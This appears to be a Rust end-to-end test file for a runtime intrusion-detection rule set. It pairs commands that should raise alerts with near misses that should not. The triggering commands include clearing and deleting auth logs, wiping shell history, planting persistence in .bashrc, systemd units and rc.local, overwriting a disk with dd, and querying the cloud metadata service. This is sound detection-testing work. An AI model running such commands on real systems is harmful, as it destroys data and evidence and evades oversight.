        act("crontab", sh!("cp /bin/true %W/crontab; %W/crontab -u app -l")),
        act("cat", sh!("cat /etc/crontab")),
        act("sh", sh!("mkdir -p /var/spool/mail; echo > /var/spool/mail/x")),
    ],
};

empty_log => Case {
    rule: "Clear Log Activities",
    fires: &[
        act("sh", sh!(": > /var/log/auth.log")).at(CONTAINER).by(&[User])
            .showing(&[("fd.name", "/var/log/auth.log")]),
        act("truncate", &["truncate", "-s", "0", "/var/log/auth.log"]).by(&[User])
            .showing(&[("evt.type", "ftruncate"), ("fs.path.name", "/var/log/auth.log")]),
    ],
    near_misses: &[
        act("sh", sh!("echo line >> /var/log/auth.log")),
        act("truncate", &["truncate", "-s", "4", "/var/log/auth.log"]),
        act("sh", sh!(": > /var/log-archive")),
    ],
};

delete_log => Case {
    rule: "Delete log files",
    fires: &[
        act("rm", &["rm", "/var/log/auth.log"]).at(CONTAINER)
            .showing(&[("fs.path.name", "/var/log/auth.log")]),
        act("rm", sh!("cd /var/log; rm auth.log")).by(&[Docker]),
        act("rm", sh!("mkdir /var/log/d; echo > /var/log/d/log; cd /var; rm -r log/d")),
        act("mv", sh!("cd /var/log; mv auth.log ../cache")).by(&[Docker]),
    ],
    near_misses: &[
        act("rm", &["rm", "/var/log-archive"]),
        act("rm", sh!("rm /var/log/none")),
        act("cat", &["cat", "/var/log/auth.log"]),
        act("logrotate", sh!("cp /usr/bin/mv %W/logrotate",
            "%W/logrotate /var/log/auth.log /var/log/auth.log.1")),
    ],
};

delete_history => Case {
    rule: "Delete or rename shell history",
    fires: &[
        act("rm", sh!("echo ls > %W/.bash_history; rm %W/.bash_history")).at(&[Host, Below])
            .by(&[User]),
        act("sh", sh!("cd %W; : > .zsh_history")).by(&[User]),
        act("mv", sh!("cd %W; echo ls >> .history; mv .history x")),
        act("truncate", sh!("cd %W; echo ls >> .bash_history; truncate -s 0 .bash_history")),
        act("ln", sh!("cd %W; echo ls >> .bash_history; ln -sf /dev/null .bash_history")),
    ],
    near_misses: &[
        act("bash", &["bash", "-c", "cd %W; echo ls >> .bash_history"]),
        act("rm", sh!("cd %W; echo ls > history; rm history")),
        act("bash", &["bash", "-c", "cd %W; : > .bash_history"]).on_terminal(),
    ],
};

shell_start_file => Case {
    rule: "Modify shell start-up file",
    fires: &[act("sh", sh!("echo : >> /root/.bashrc")).at(CONTAINER)
            .showing(&[("fd.name", "/root/.bashrc")]),
        act("mv", sh!("echo : > /home/x; mv /home/x /home/app/.profile"))
            .showing(&[("evt.arg.newpath", "/home/app/.profile")])],
    near_misses: &[
        act("bash", sh!("echo : > %W/.bashrc; bash -c 'source %W/.bashrc'")),
        act("sh", sh!("echo : >> /root/.bashed")),
        act("useradd", sh!("cp /bin/bash %W/useradd; %W/useradd -c 'echo : > /home/app/.bashrc'")),
    ],
};

unit_outside_of_etc => Case {
    rule: "Place unit or module outside of etc",
    fires: &[
        act("sh", sh!("mkdir -p /usr/lib/systemd/system; echo > /usr/lib/systemd/system/x.service")).at(CONTAINER)
            .showing(&[("fd.name", "/usr/lib/systemd/system/x.service")]),
        act("mv", sh!("mkdir -p /run/systemd/system; : > %W/x; mv %W/x /run/systemd/system/y.timer"))
            .showing(&[("evt.arg.newpath", "/run/systemd/system/y.timer")]),
        act("ln", sh!("mkdir -p /usr/lib/udev/rules.d; ln -s %W/x /usr/lib/udev/rules.d/9.rules"))
            .showing(&[("evt.arg.linkpath", "/usr/lib/udev/rules.d/9.rules")]),
    ],
    near_misses: &[
        act("sh", sh!("mkdir -p /usr/lib/systemd-like; echo > /usr/lib/systemd-like/x")),
        act("cat", sh!("mkdir -p /usr/lib/systemd; cat /usr/lib/systemd/x")),
        act("dpkg", sh!("mkdir -p /usr/lib/systemd; cp /bin/cp %W/dpkg; : > %W/x; %W/dpkg %W/x /usr/lib/systemd/x")),
    ],
};

start_of_session => Case {
    rule: "Add program to the start of a session",
    fires: &[
        act("sh", sh!("mkdir -p %W/.config/autostart; echo > %W/.config/autostart/x.desktop")).at(&[Host, Below])
            .by(&[User]).showing(&[("fd.name", "*/.config/autostart/x.desktop")]),
        act("mv", sh!("mkdir -p %W/.config/systemd/user; : > %W/x; mv %W/x %W/.config/systemd/user/x.service")),
        act("ln", sh!("mkdir -p %W/.config/systemd/user; ln -s %W/x %W/.config/systemd/user/x.service")),
    ],
    near_misses: &[
        act("sh", sh!("mkdir -p %W/.config/other; echo > %W/.config/other/x.desktop")),
        act("systemctl", sh!("mkdir -p %W/.config/systemd/user; cp /bin/ln %W/systemctl",
            "%W/systemctl -s %W/x %W/.config/systemd/user/x.service")),
    ],
};

immutable_bits => Case {
    rule: "Change immutable bits",
    // FS_IOC_SETFLAGS.
    fires: &[act("perl", perl!("open(my $file, '>', '%W/x') or die; my $flags = pack('Q', 0);
            ioctl($file, 0x40086602, $flags)"))
        .at(CONTAINER).by(&[Root, User]).showing(&[("fd.name", "/var/tmp/e2e/x")]),
        act("borg", sh!("ln -s /usr/bin/perl %W/borg; : > %W/x",
            "echo 'open(my $file, q(<), q(%W/x)) or die; my $flags = pack(q(Q), 0); ioctl($file, 0x40086602, $flags)' > %W/script",
            "%W/borg /usr/..%W/script")).at(&[Host])],
    near_misses: &[
        // FS_IOC_GETFLAGS.
        act("perl", perl!("open(my $file, '>', '%W/x') or die; my $flags = pack('Q', 0);
            ioctl($file, 0x80086601, $flags)")),
        act("chmod", sh!(": > %W/x; chmod 400 %W/x")),
    ],
};

write_package_database => Case {
    rule: "Write below package database",
    fires: &[act("sh", sh!("mkdir -p /var/lib/dpkg; echo > /var/lib/dpkg/status")).at(CONTAINER)
            .showing(&[("fd.name", "/var/lib/dpkg/status")]),
        act("mv", sh!("mkdir -p /var/lib/dpkg; echo > %W/x; mv %W/x /var/lib/dpkg/status"))
            .showing(&[("evt.arg.newpath", "/var/lib/dpkg/status")])],
    near_misses: &[
        act("sh", sh!("mkdir -p /var/lib/dpkgs; echo > /var/lib/dpkgs/status")),
        act("dpkg", sh!("mkdir -p /var/lib/dpkg; cp /bin/bash %W/dpkg",
            "%W/dpkg -c 'sh -c \"echo > /var/lib/dpkg/status\"; :'")),
        act("cat", sh!("cat /var/lib/dpkg/status")),
    ],
};

write_below_binary_directory => Case {
    rule: "Write below binary dir",
    fires: &[
        act("cp", &["cp", "/bin/true", "/usr/local/bin/new"]).at(CONTAINER).by(&[Root, Docker])
            .showing(&[("fd.name", "/usr/local/bin/new"), ("proc.cmdline", "cp *")]),
        act("mv", sh!("cp /bin/true %W/x; mv %W/x /usr/bin/x")),
        act("ln", &["ln", "-s", "/bin/true", "/usr/sbin/y"]),
    ],
    near_misses: &[
        act("cp", &["cp", "/bin/true", "%W/new"]).at(CONTAINER).by(EVERYBODY),
        act("cat", &["cat", "/usr/local/bin/tollgate"]).by(&[User]).at(&[Below]),
        act("cp", sh!("cp /bin/true /usr/local/bin/new")).by(&[User]),
    ],
};

write_below_etc => Case {
    rule: "Write below etc",
    fires: &[
        act("cp", &["cp", "/etc/hosts", "/etc/new"]).at(CONTAINER).by(&[Root, Docker])
            .showing(&[("fd.name", "/etc/new")]),
        act("mv", sh!("cd /etc; echo > %W/x; mv %W/x new")).showing(&[("evt.arg.newpath", "/etc/new")]),
        act("perl", perl!(named!("/etc", "/etc/named")))
            .showing(&[("evt.type", "linkat"), ("evt.arg.newpath", "/etc/named")]),
        act("ln", &["ln", "-s", "/opt/x", "/etc/link"]).showing(&[("evt.arg.linkpath", "/etc/link")]),
        // What lost its parent is no service.
        act("cp", sh!("cp /bin/bash %W/systemd; %W/systemd -c 'cp /etc/hosts /etc/new; :'")),
    ],
    near_misses: &[
        act("perl", perl!(nameless!("/etc", ""))),
        act("cp", &["cp", "/etc/hosts", "%W/etc"]).at(CONTAINER),
        act(
            "ssh-keygen",
            sh!("mkdir /etc/ssh; cp /bin/mv %W/ssh-keygen; echo > %W/x",
                "%W/ssh-keygen %W/x /etc/ssh/ssh_host_rsa_key"),
        ),
        act("ldconfig", sh!("cp /bin/cp %W/ldconfig; %W/ldconfig /etc/hosts /etc/ld.so.cache")),
        act("cups", sh!("cp /bin/bash %W/systemd; cp /bin/cp /usr/sbin/cups",
            "%W/systemd -c '/usr/sbin/cups /etc/hosts /etc/printers; :'")),
    ],
};

edit_at_a_terminal => Case {
    rule: "Configuration edited at a terminal",
    // Another file system stands in for the host's /etc.
    fires: &[act("vim.basic", edited!("hosts")).at(&[Host]).on_terminal().showing(&[("fd.name", "/etc/hosts")])],
    near_misses: &[
        act("vim.basic", edited!("sudoers")).at(&[Host]).on_terminal(),
        act("vim.basic", edited!("hosts")).at(&[Host]),
        act("cp", sh!("unshare -m sh -c 'mount -t tmpfs none /etc; cp /dev/null /etc/hosts; :'")).at(&[Host]).on_terminal(),
    ],
};

start_up_changed => Case {
    rule: "Start-up of the machine changed",
    fires: &[
        act("sh", sh!("mkdir -p /etc/profile.d; echo : > /etc/profile.d/x.sh")).at(CONTAINER)
            .showing(&[("fd.name", "/etc/profile.d/x.sh")]),
        act("mv", sh!("mkdir -p /etc/udev/rules.d; echo > %W/x; mv %W/x /etc/udev/rules.d/9.rules"))
            .showing(&[("evt.arg.newpath", "/etc/udev/rules.d/9.rules")]),
        act("ln", sh!("ln -s %W/x /etc/rc.local")).showing(&[("evt.arg.linkpath", "/etc/rc.local")]),
    ],
    near_misses: &[
        act("sh", sh!("echo : > /etc/profiles; mkdir -p /etc/profile.d; ls /etc/profile.d")),
        act("systemctl", sh!("mkdir -p /etc/systemd/system; cp /bin/ln %W/systemctl; %W/systemctl -s %W/x /etc/systemd/system/x")),
        act("dpkg", sh!("mkdir -p /etc/init.d; cp /bin/cp %W/dpkg; %W/dpkg /etc/hosts /etc/init.d/x")),
    ],
};

write_below_root => Case {
    rule: "Write below root",
    fires: &[
        act("sh", sh!("echo > /new")).at(CONTAINER).showing(&[("fd.name", "/new")]),
        act("sh", sh!("chmod 777 /root; cd /root; setpriv --reuid=1000 sh -c 'echo > new'"))
            .showing(&[("fd.name", "/root/new"), ("user.name", "app")]),
        act("nginx", perl_named!("nginx", "open my $f, q(>), q(/root/new) or die"))
            .showing(&[("fd.name", "/root/new")]),
        act("mv", sh!("echo > %W/x; mv %W/x /moved")).showing(&[("evt.arg.newpath", "/moved")]),
        // A file without a name gets one: linkat of /proc/self/fd/N.
        act("perl", perl!(named!("/", "/named"))).showing(&[("evt.type", "linkat"), ("evt.arg.newpath", "/named")]),
    ],
    near_misses: &[
        act("sh", sh!("echo ls >> /root/.bash_history")),
        act("sh", sh!("mkdir /root/d; echo > /root/d/new")),
        act("sh", sh!("echo > /.dockerenv")),
        act("sh", sh!("cd; echo > new")),
        // /tmp itself is not written.
        act("python3", &["python3", "-c", "import tempfile; tempfile.TemporaryFile(dir='/tmp').write(b'x')"]).at(&[Host]),
        act("perl", perl!(nameless!("/", ""))).at(CONTAINER),
        act("mv", sh!("echo > %W/x; mkdir /d; mv %W/x /d/moved")),
    ],
};

write_in_home_of_root => Case {
    rule: "Write in the home of root",
    fires: &[
        act("sh", sh!("cd; echo > new")).at(CONTAINER).by(&[Root, Docker])
            .showing(&[("fd.name", "/root/new")]),
        act("mv", sh!("echo > %W/x; mv %W/x /root/.gitconfig"))
            .showing(&[("evt.arg.newpath", "/root/.gitconfig")]),
    ],
    near_misses: &[
        act("sh", sh!("mkdir /root/d; echo > /root/d/new")),
        act("sh", sh!("echo > /new")),
        act("sh", sh!("echo : >> /root/.profile")),
    ],
};

destroy_data => Case {
    rule: "Remove Bulk Data from Disk",
    fires: &[
        act("shred", sh!("echo > %W/x; shred %W/x")).at(&[Host, Below]).by(&[User]),
        act("dd", &["dd", "if=/dev/null", "of=/dev/sdz"]),
        act("mke2fs", &["mke2fs", "-V"]),
    ],
    near_misses: &[
        act("dd", &["dd", "if=/dev/null", "of=%W/sdz"]),
        act("dd", &["dd", "if=/dev/null", "of=/dev/null"]),
        act("rm", sh!("echo > %W/x; rm %W/x")),
    ],
};

// --- the network

packet_socket => Case {
    rule: "Packet socket created in container",
    fires: &[act("perl", perl!("socket(S, 17, 3, 0)")).at(CONTAINER).by(&[Docker])
        .showing(&[("evt.args", "*AF_PACKET*")])],
    near_misses: &[
        act("perl", perl!("socket(S, 2, 2, 17) && socket(S, 10, 1, 6) && socket(S, 1, 1, 0)
            && socket(S, 16, 3, 0) or die")),
        act("perl", perl!("socket(S, 17, 3, 0)")).at(&[Host]),
    ],
};

contact_api_server => Case {
    rule: "Contact K8S API Server From Container",
    fires: &[
        // By its name, which is looked up where the program is; by its port.
        act("nc", &["nc", "-z", "-w1", "203.0.113.10", "443"]).by(&[User]).from_inside()
            .showing(&[("fd.name", "*203.0.113.10:443")]),
        act("nc", &["nc", "-z", "-w1", "203.0.113.5", "6443"]).at(&[Below]),
    ],
    near_misses: &[
        act("nc", &["nc", "-z", "-w1", "203.0.113.5", "443"]),
        act("nc", &["nc", "-z", "-w1", "203.0.113.10", "6443"]).at(&[HostNetwork]),
        act("kubelet", sh!("cp /usr/bin/nc %W/kubelet; %W/kubelet -z -w1 203.0.113.10 6443")),
    ],
};

contact_metadata_service => Case {
    rule: "Contact cloud metadata service from container",
    fires: &[act("nc", with_listener!("169.254.169.254 80", "secret",
            "nc -N 169.254.169.254 80 < /dev/null")).at(CONTAINER).by(&[User])
        .showing(&[("fd.name", "*169.254.169.254:80")])],
    near_misses: &[
        act("nc", with_listener!("203.0.113.5 80", "page", "nc -N 203.0.113.5 80 < /dev/null")),
        act("nc", with_listener!("169.254.169.254 80", "secret",
            "nc -N 169.254.169.254 80 < /dev/null")).at(&[HostNetwork]),
    ],
};

ssh_on_other_port => Case {
    rule: "Disallowed SSH Connection Non Standard Port",
    fires: &[act("ssh", with_listener!("203.0.113.5 443", "no ssh",
            "ssh -o BatchMode=yes -p 443 203.0.113.5")).at(&[HostNetwork, Below])
        .showing(&[("fd.name", "*203.0.113.5:443")])],
    near_misses: &[
        act("ssh", with_listener!("203.0.113.5 2222", "no ssh",
            "ssh -o BatchMode=yes -p 2222 203.0.113.5")),
        act("ssh", with_listener!("127.0.0.1 443", "no ssh",
            "ssh -o BatchMode=yes -p 443 127.0.0.1")),
        // Nobody listens: the call fails.
        act("ssh", &["ssh", "-o", "BatchMode=yes", "-p", "443", "203.0.113.5"]),
    ],
};
}

#[test]
fn a_file_without_a_name_is_nowhere_until_it_gets_one() {
    need_root!();
    let file = e2e::default_rules().expect("rules/default.yaml is part of the repository");
    for engine in [Engine::Notify, Engine::Ptrace, Engine::Ebpf] {
        for (statement, expected) in [
            (nameless!("/etc", ""), None),
            (nameless!("/", ""), None),
            (nameless!("/root", ""), None),
            (
                named!("/etc", "/etc/named"),
                Some(("Write below etc", "/etc/named")),
            ),
            (
                named!("/etc", "/named"),
                Some(("Write below root", "/named")),
            ),
        ] {
            let watched = Watch::new(["perl", "-e", statement])
                .place(Inside)
                .engine(engine)
                .rules_file(&file)
                .rules(SENTINEL)
                .run();
            assert_eq!(
                watched.code(),
                0,
                "{engine:?} {statement}: {}",
                watched.story()
            );
            // Seen from outside, a container is made before, by Perl, too.
            let is_its = |alert: &&Alert| {
                let by_perl = alert
                    .fields
                    .get("proc.cmdline")
                    .and_then(|line| line.as_str())
                    .is_some_and(|line| line.starts_with("perl -e"));
                alert.rule != "Sentinel" && (by_perl || alert.rule.contains("unseen"))
            };
            let alerts: Vec<_> = watched.alerts.iter().filter(is_its).collect();
            let found = alerts
                .first()
                .map(|alert| (alert.rule.as_str(), alert.field("evt.arg.newpath")));
            let expected = expected.map(|(rule, path)| (rule, path.to_owned()));
            assert!(
                found == expected && alerts.len() == usize::from(found.is_some()),
                "{engine:?} {statement}: {}",
                watched.story()
            );
        }
    }
}

/// What people and machines do every day: no default rule may alert.
const ORDINARY: &[(&str, &str)] = &[
    (
        "files",
        "ls -laR /etc > list; mkdir d; cp -a /etc/hosts list d; tar czf d.tgz d; rm -r d
        tar xzf d.tgz; find d -type f | xargs md5sum | sort; sed -i s/a/b/ d/list; du -s d; df d
        touch x; mv x y; ln -s y z; ln y yy; chmod 755 y; stat /etc/shadow; rm -rf d y yy z",
    ),
    (
        "building",
        "echo 'int main(void) { return 0; }' > a.c; gcc -O2 -g -o a a.c
        printf 'b: a.c\n\tgcc -o b a.c\n' > Makefile; make -s",
    ),
    (
        "git",
        "git init -q r && cd r && git config user.email a@b && git config user.name a
        echo 1 > f; git add .; git commit -qm one; git log --stat | cat; git gc -q
        cd .. && git clone -q r s && cd s && git fetch -q",
    ),
    (
        "keys and editors",
        "ssh-keygen -q -t ed25519 -N '' -f key && ssh-keygen -lf key && ssh -G localhost > list
        vim -Nu NONE -es -c 'normal ihello' -c wq text && cat text
        bash -ic 'echo hello' && bash -lc 'echo hello'",
    ),
    (
        "python",
        "python3 -c 'import subprocess, tempfile
subprocess.run([\"sh\", \"-c\", \"true\"]); tempfile.NamedTemporaryFile().write(b\"x\")'
        python3 -m venv --without-pip env && env/bin/python -c 'print(1)'",
    ),
    (
        "timed scripts",
        "mkdir daily; printf '#!/bin/sh\nfind /var/log -mtime +7; date >> %W/log\n' > daily/x
        chmod 755 daily/x; run-parts daily; ps aux; id; uptime; df; dpkg -l; dpkg-query -S /bin/ls",
    ),
    (
        "other users",
        "setpriv --reuid=1000 --regid=1000 --clear-groups true; runuser -u nobody -- true
        su nobody -s /bin/sh -c true; sysctl kernel.core_pattern; cat /proc/sys/kernel/core_pattern",
    ),
];

#[test]
fn ordinary_work_is_silent() {
    need_root!();
    let file = e2e::default_rules().expect("rules/default.yaml is part of the repository");
    for (name, script) in ORDINARY {
        let watched = Watch::new([
            "sh",
            "-c",
            &format!("set -e; export HOME=%W; cd %W; {script}"),
        ])
        .rules_file(&file)
        .rules(SENTINEL)
        .run();
        assert_eq!(watched.code(), 0, "{name}: {}", watched.story());
        let (seen, alerts): (Vec<_>, Vec<_>) = watched
            .alerts
            .iter()
            .partition(|alert| alert.rule == "Sentinel");
        assert!(seen.len() > 3, "{name}: not watched\n{}", watched.story());
        let alerts: Vec<_> = alerts.iter().map(|alert| format!("  {alert}\n")).collect();
        assert!(alerts.is_empty(), "{name}:\n{}", alerts.concat());
    }
}
